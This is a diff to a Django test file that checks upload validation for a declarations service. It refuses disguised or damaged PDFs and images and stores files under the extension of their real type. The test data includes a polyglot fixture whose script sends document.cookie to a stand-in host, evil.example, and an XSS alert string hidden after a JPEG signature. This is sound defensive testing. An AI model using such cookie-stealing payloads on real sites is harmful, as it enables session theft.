@@ -4,6 +4,7 @@ import io
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image
+from pypdf import PdfWriter
 
 from declarations.models import AuditEvent, Declaration, Document
 from declarations.services.review import declaration_decide
@@ -11,12 +12,30 @@ from tests.payloads import plain_import_body
 from tests.risk.test_assessment import registered
 
 pytestmark = pytest.mark.django_db
-PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
+
+
+def pdf_bytes(pages: int = 1) -> bytes:
+    """A real PDF: header, objects, cross-reference table, trailer, %%EOF."""
+    writer = PdfWriter()
+    for _ in range(pages):
+        writer.add_blank_page(width=595, height=842)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+PDF = pdf_bytes()
 
 
 def png_bytes():
     buffer = io.BytesIO()
     Image.new("RGB", (8, 8), "red").save(buffer, "PNG")
+    return buffer.getvalue()
+
+
+def jpeg_bytes():
+    buffer = io.BytesIO()
+    Image.new("RGB", (8, 8), "blue").save(buffer, "JPEG")
     return buffer.getvalue()
 
 
@@ -109,3 +128,83 @@ def test_answering_a_document_request(trader1, officer, api_client_for, declarat
 def test_closed_declarations_take_no_documents(trader1, api_client_for, declaration):
     Declaration.objects.filter(pk=declaration.pk).update(status="cancelled")
     assert upload(api_client_for(trader1), declaration, "a.pdf", PDF).status_code == 409
+
+
+# --- What a file is, not what it is called (issue 12, finding 10) ---------------------------------
+
+EVIL_HTML = b"%PDF-1.7\n<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n%%EOF\n"
+
+
+@pytest.mark.parametrize("name, content", [
+    ("evil.html", EVIL_HTML),  # starts with %PDF- and ends with %%EOF: it passed
+    ("fake.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"),  # no cross-reference table, no page
+    ("truncated.pdf", PDF[: len(PDF) // 2]),
+    ("no-pages.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
+                     b"trailer<</Root 1 0 R>>\n%%EOF\n"),
+], ids=["evil.html", "fake.pdf", "truncated.pdf", "no-pages.pdf"])
+def test_a_file_that_only_starts_like_a_pdf_is_refused(trader1, api_client_for, declaration, media, name, content):
+    response = upload(api_client_for(trader1), declaration, name, content)
+    assert response.status_code == 400
+    assert response.json() == {"file": ["The PDF is incomplete or damaged."]}
+    assert not Document.objects.exists() and not list(media.rglob("*.*"))
+
+
+@pytest.mark.parametrize("name, content", [
+    ("scan.png", png_bytes()[:40]),  # the header and the start of the first chunk
+    ("photo.jpg", jpeg_bytes()[:-40]),  # the scan data cut short
+    ("photo.jpg", b"\xff\xd8\xff\xe0" + b"<script>alert(1)</script>" * 4),
+    ("scan.png", b"\x89PNG\r\n\x1a\n" + jpeg_bytes()),  # a PNG signature over another format
+], ids=["truncated png", "truncated jpeg", "script after a jpeg signature", "jpeg behind a png signature"])
+def test_an_image_must_decode_whole(trader1, api_client_for, declaration, media, name, content):
+    response = upload(api_client_for(trader1), declaration, name, content)
+    assert response.status_code == 400
+    assert response.json() == {"file": ["The image is damaged or not really an image."]}
+    assert not Document.objects.exists()
+
+
+@pytest.mark.parametrize("name, content, stored_as, content_type", [
+    ("evil.html", PDF, "evil.pdf", "application/pdf"),
+    ("invoice.PDF", PDF, "invoice.PDF", "application/pdf"),
+    ("scan.svg", png_bytes(), "scan.png", "image/png"),
+    ("photo.jpeg", jpeg_bytes(), "photo.jpeg", "image/jpeg"),
+    ("photo", jpeg_bytes(), "photo.jpg", "image/jpeg"),
+    ("x" * 300 + ".html", PDF, "x" * 196 + ".pdf", "application/pdf"),
+], ids=["evil.html", "invoice.PDF", "scan.svg", "photo.jpeg", "photo", "a long name"])
+def test_a_document_is_named_and_stored_with_the_extension_of_its_type(
+        trader1, officer, api_client_for, declaration, media, name, content, stored_as, content_type):
+    body = upload(api_client_for(trader1), declaration, name, content).json()
+    assert (body["name"], body["content_type"]) == (stored_as, content_type)
+    document = Document.objects.get(pk=body["id"])
+    extension = {"application/pdf": ".pdf", "image/png": ".png", "image/jpeg": ".jpg"}[content_type]
+    stored = media / document.file.name
+    assert stored.parent == media / "declarations" / str(declaration.pk)
+    assert stored.suffix == extension and len(stored.stem) == 32  # a random name of 32 hex digits
+    assert stored.read_bytes() == content
+    download = api_client_for(officer).get(f"/api/v1/declarations/{declaration.pk}/documents/{document.pk}/download/")
+    assert download["Content-Type"] == content_type
+    assert download["Content-Disposition"] == f'attachment; filename="{stored_as}"'
+    assert download["X-Content-Type-Options"] == "nosniff"
+
+
+def test_a_document_stored_before_keeps_no_dangerous_extension_on_download(trader1, officer, api_client_for, client,
+                                                                           declaration):
+    """A row written before names were given the detected extension (evil.html) downloads as evil.pdf."""
+    document_id = upload(api_client_for(trader1), declaration, "a.pdf", PDF).json()["id"]
+    Document.objects.filter(pk=document_id).update(original_name="evil.html")
+    client.force_login(officer)
+    download = client.get(f"/declarations/{declaration.pk}/documents/{document_id}/")
+    assert download.status_code == 200
+    assert download["Content-Disposition"] == 'attachment; filename="evil.pdf"'
+    assert (download["Content-Type"], download["X-Content-Type-Options"]) == ("application/pdf", "nosniff")
+
+
+
+def test_a_pdf_locked_by_a_password_is_refused_with_the_reason(trader1, api_client_for, declaration):
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    writer.encrypt(user_password="secret", algorithm="RC4-128")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    response = upload(api_client_for(trader1), declaration, "locked.pdf", buffer.getvalue())
+    assert response.status_code == 400
+    assert response.json() == {"file": ["The PDF is protected by a password: upload it without one."]}
